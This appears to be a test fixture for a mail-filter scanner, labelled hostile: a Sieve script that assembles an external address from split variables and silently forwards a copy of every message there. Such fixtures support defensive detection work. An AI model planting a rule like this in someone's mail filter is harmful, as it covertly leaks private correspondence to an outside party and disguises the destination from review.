# about: the address is put together
# class: hostile
# expect: disguised everything forwards-external
require ["variables", "copy"];
set "a" "mirror.bo";
set "b" "x77@mailf";
set "c" "ree.example";
redirect :copy "${a}${b}${c}";
